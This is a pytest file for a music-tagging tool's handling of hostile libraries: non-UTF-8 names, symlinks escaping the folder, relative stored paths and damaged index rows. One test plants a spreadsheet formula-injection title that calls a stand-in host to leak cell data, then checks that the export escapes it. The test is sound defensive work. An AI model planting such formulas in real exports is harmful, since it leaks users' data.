"""``genrify tag`` where the library is hostile: names that are not UTF-8, links out of the tagged
folder, relative paths stored by an earlier genrify, damaged index rows. The real tiny CNN over real
encoded files, a real SQLite index, real links.
"""

from __future__ import annotations

import csv
import os
import shutil
import sqlite3

import pytest

from genrify.tagging import ResultsIndex
from helpers.tagging_library import library, library_src, run_job, song_files  # noqa: F401  (fixtures)


# ---------------------------------------------------------------------------- names, links, stored paths

_ODD = os.fsdecode(b"x\xe9.mp3")  # a Latin-1 name, not UTF-8: Python reads the byte as a lone surrogate


def test_a_name_that_is_not_utf8_is_analysed_tagged_listed_and_exported(library, tiny_cnn_model, tmp_path,
                                                                         run_genrify):
    from mutagen.easyid3 import EasyID3

    odd = library / "mp3" / _ODD
    shutil.copyfile(song_files(library / "mp3")[0], odd)
    tags = EasyID3(odd)
    tags["title"] = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
    tags.save()
    index, out = tmp_path / "i.sqlite", tmp_path / "genres.csv"
    proc = run_genrify("tag", library, "--model", tiny_cnn_model, "--index", index, "--min-certainty", "0",
                       "--export", out)  # a dry run first: it used to fail at the index, before the table
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert "x\\xe9.mp3" in proc.stdout and "0 failed" in proc.stdout  # shown terminal-safe
    rows = {os.fsdecode(r["path"].encode("utf-8", "surrogateescape")): r
            for r in csv.DictReader(out.open(encoding="utf-8", errors="surrogateescape", newline=""))}
    assert rows[str(odd)]["title"].startswith("'=HYPERLINK(")  # a text cell in a spreadsheet, not a formula
    written = run_job(library, tiny_cnn_model, index, write=True, existing="overwrite")
    mine = [f for f in written.files if f.path == str(odd)]
    assert len(mine) == 1 and mine[0].error is None and mine[0].action.startswith("wrote")
    with ResultsIndex(index) as results:
        assert str(odd) in {r["path"] for r in results.rows()}
    from genrify.tagging.listing import read_songs

    assert str(odd) in {r["path"] for r in read_songs(index)}
    from genrify.tagging.library import LibraryView

    listed = LibraryView(index, library=library)  # the library page: shown as text, opened by its bytes
    (row,) = [r for r in listed.query(q="hyperlink")["rows"]]
    assert row["name"] == "mp3/x\ufffd.mp3" and listed.song(row["id"])["path"] == str(odd)
    proc = run_genrify("tag", "--undo", library, "--index", index)
    assert proc.returncode == 0 and "x\\xe9.mp3: restored" in proc.stdout, proc.stdout + proc.stderr


def test_tag_write_does_not_follow_a_link_out_of_the_folder(library, tiny_cnn_model, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o700)
    private = outside / "private.mp3"
    shutil.copyfile(song_files(library / "mp3")[0], private)
    os.chmod(private, 0o600)
    before = private.read_bytes()
    (library / "evil.mp3").symlink_to(private)
    summary = run_job(library, tiny_cnn_model, tmp_path / "i.sqlite", write=True, existing="overwrite")
    (evil,) = [f for f in summary.files if f.path.endswith("evil.mp3")]
    assert evil.error and "links outside" in evil.error and "\n" not in evil.error
    assert private.read_bytes() == before
    assert summary.written == 12


def test_paths_are_stored_absolute_and_resolved_and_old_relative_rows_still_read(library, tiny_cnn_model, tmp_path,
                                                                                monkeypatch):
    monkeypatch.chdir(library.parent)
    index = tmp_path / "i.sqlite"
    run_job(library.name, tiny_cnn_model, index)  # `genrify tag music`, from the folder above
    with ResultsIndex(index) as results:
        paths = [r["path"] for r in results.rows()]
    assert len(paths) == 12 and all(os.path.isabs(p) and p == os.path.realpath(p) for p in paths)
    from genrify.tagging.listing import read_songs

    with sqlite3.connect(index) as conn:  # a row as an earlier genrify stored it: as it was given
        conn.execute("UPDATE songs SET path = ? WHERE path = ?", (os.path.relpath(paths[0]), paths[0]))
    assert paths[0] in {r["path"] for r in read_songs(index)}


def test_bad_json_in_the_results_index_is_a_one_line_error(library, tiny_cnn_model, tmp_path, run_genrify):
    from genrify.errors import DatasetError
    from genrify.tagging.listing import read_songs

    index = tmp_path / "i.sqlite"
    run_job(library, tiny_cnn_model, index)
    with sqlite3.connect(index) as conn:
        conn.execute("UPDATE songs SET tags = '{\"artist\": ' WHERE id = 1")
    with ResultsIndex(index) as results, pytest.raises(DatasetError, match="damaged") as err:
        results.rows()
    assert "\n" not in str(err.value)
    (damaged,) = [r for r in read_songs(index) if r["id"] == 1]  # the library page lists past it, saying why
    assert damaged["problem"] == "its tags are not JSON"
    proc = run_genrify("tag", library, "--model", tiny_cnn_model, "--index", index)
    assert "Traceback" not in proc.stdout + proc.stderr
    (failed,) = [line for line in proc.stdout.splitlines() if line.startswith("failed: ")]
    assert "damaged" in failed  # that song alone; the others are listed from the index as before


def test_predict_write_tags_on_a_name_that_is_not_utf8_is_journaled_and_undone(library, tiny_cnn_model, run_genrify):
    import json

    odd = library / "mp3" / os.fsdecode(b"y\xe9.mp3")
    shutil.copyfile(song_files(library / "mp3")[0], odd)
    proc = run_genrify("predict", odd, "--model", tiny_cnn_model, "--write-tags", "--overwrite", "--json")
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    (result,) = json.loads(proc.stdout)
    assert result["tagged"], result  # written, so journaled under the name's own bytes
    undo = run_genrify("tag", "--undo", library)  # the journal in genrify's data folder, as predict left it
    assert undo.returncode == 0 and "y\\xe9.mp3: restored" in undo.stdout, undo.stdout + undo.stderr
